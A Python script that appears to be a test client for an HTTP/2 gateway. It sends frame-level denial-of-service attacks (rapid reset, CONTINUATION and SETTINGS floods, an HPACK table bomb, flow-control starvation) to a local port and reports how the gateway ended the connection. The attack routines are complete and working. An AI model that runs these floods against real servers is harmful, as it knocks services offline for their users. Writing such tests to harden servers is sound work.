#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-3.0-only
"""Clients that speak HTTP/2 to do harm, frame by frame.

http2_attacks.py PORT ATTACK PATH [CONNECTIONS]: prints how the last connection was ended, as
`goaway CODE`, `closed` or `open`.
"""
import socket
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST, SETTINGS, PING, GOAWAY, WINDOW, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS = 1, 4
SECONDS = 15  # in which an attack has to be noticed
MANY = 200_000


def frame(kind, flags=0, stream=0, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def text(value):
    assert len(value) < 127
    return bytes([len(value)]) + value


def head(path, method=b"GET"):
    """A header block without Huffman codes or the dynamic table."""
    fields = [(b":method", method), (b":scheme", b"http"), (b":path", path.encode()), (b":authority", b"gateway.test")]
    return b"".join(b"\x00" + text(name) + text(value) for name, value in fields)


class Client:
    def __init__(self, port, settings=b"", reads=True):
        self.socket = socket.create_connection(("127.0.0.1", port))
        self.socket.settimeout(SECONDS)
        self.got = b""
        self.ended = ""
        self.reads = reads
        self.socket.sendall(PREFACE + frame(SETTINGS, payload=settings))

    def send(self, data):
        """False: the gateway has had enough."""
        try:
            self.socket.sendall(data)
        except (OSError, socket.timeout):
            self.ended = self.ended or "closed"
        if self.reads:
            self.look()
        return not self.ended

    def look(self, wait=0.0):
        self.socket.settimeout(wait or 0.000001)
        try:
            while True:
                more = self.socket.recv(1 << 16)
                if not more:
                    self.ended = self.ended or "closed"
                    break
                self.got += more
                self.frames()
        except socket.timeout:
            pass
        except OSError:
            self.ended = self.ended or "closed"
        self.socket.settimeout(SECONDS)

    def frames(self):
        while len(self.got) >= 9:
            size = int.from_bytes(self.got[:3], "big")
            if len(self.got) < 9 + size:
                return
            if self.got[3] == GOAWAY:
                self.ended = f"goaway {int.from_bytes(self.got[13:17], 'big')}"
            self.got = self.got[9 + size:]

    def end(self):
        deadline = time.monotonic() + SECONDS
        while not self.ended and time.monotonic() < deadline:
            self.look(0.1)
        return self.ended or "open"


def flood(client, piece):
    for _ in range(MANY // 20):
        if not client.send(piece * 20):
            break


def streams(client, make):
    for number in range(MANY):
        if not client.send(make(2 * number + 1)):
            break


def rapid_reset(client, path):
    cancel = struct.pack(">I", 8)
    streams(client, lambda id: frame(HEADERS, END_STREAM | END_HEADERS, id, head(path)) + frame(RST, 0, id, cancel))


def made_you_reset(client, path):
    """A window beyond its bound: the gateway has to reset the stream itself."""
    beyond = struct.pack(">I", 0x7FFFFFFF)
    streams(client, lambda id: frame(HEADERS, END_HEADERS, id, head(path, b"POST")) + frame(WINDOW, 0, id, beyond))


def malformed(client, path):
    bad = head(path) + b"\x00" + text(b"connection") + text(b"close")
    streams(client, lambda id: frame(HEADERS, END_STREAM | END_HEADERS, id, bad))


def continuation(client, path):
    client.send(frame(HEADERS, END_STREAM, 1, head(path)))
    flood(client, frame(CONTINUATION, 0, 1, b"\x00\x01x\x01y"))


def large_continuation(client, path):
    client.send(frame(HEADERS, END_STREAM, 1, head(path)))
    flood(client, frame(CONTINUATION, 0, 1, b"\x00\x01x\x01y" * 3000))


def settings(client, _):
    flood(client, frame(SETTINGS))


def large_settings(client, _):
    flood(client, frame(SETTINGS, payload=struct.pack(">HI", 4, 70000) * 2000))


def ping(client, _):
    flood(client, frame(PING, payload=b"12345678"))


def priority(client, _):
    flood(client, frame(PRIORITY, 0, 101, struct.pack(">IB", 0, 7)))


def window(client, _):
    flood(client, frame(WINDOW, 0, 0, struct.pack(">I", 1)))


def empty_data(client, path):
    client.send(frame(HEADERS, END_HEADERS, 1, head(path, b"POST")))
    flood(client, frame(DATA, 0, 1))


def bomb(client, path):
    """A field of 4,000 bytes goes into the table, and is then named by one byte each."""
    size = 4000 - 127
    value = b"\x7f" + bytes([size & 127 | 128, size >> 7]) + b"b" * 4000
    block = head(path) + b"\x40\x01x" + value + b"\xbe" * 12000
    piece = head(path) + b"\xbe" * 12000
    client.send(frame(HEADERS, END_STREAM | END_HEADERS, 1, block[:16000]))
    streams(client, lambda id: frame(HEADERS, END_STREAM | END_HEADERS, id + 2, piece))


def unread(client, path):
    """Many answers of which not a byte is taken: the connection's window is opened, the socket is not read."""
    client.send(frame(WINDOW, 0, 0, struct.pack(">I", 0x7FFF0000)))
    for number in range(128):
        client.send(frame(HEADERS, END_STREAM | END_HEADERS, 2 * number + 1, head(path)))


def unopened(client, path):
    """Many answers without a window for any of them."""
    for number in range(128):
        client.send(frame(HEADERS, END_STREAM | END_HEADERS, 2 * number + 1, head(path)))


ATTACKS = {name: value for name, value in list(globals().items()) if callable(value) and name not in
           ("frame", "text", "head", "Client", "flood", "streams", "main")}


def main():
    port, attack, path = int(sys.argv[1]), sys.argv[2], sys.argv[3]
    count = int(sys.argv[4]) if len(sys.argv) > 4 else 1
    wide = struct.pack(">HI", 4, 0x7FFFFFFF) if attack == "unread" else b""
    closed = struct.pack(">HI", 4, 0) if attack == "unopened" else b""
    clients = [Client(port, wide + closed, attack != "unread") for _ in range(count)]
    for client in clients:
        ATTACKS[attack](client, path)
    if attack in ("unread", "unopened"):
        print("ready", flush=True)
        sys.stdin.readline()
        for client in clients:
            client.reads = True
    print(clients[-1].end(), flush=True)


main()
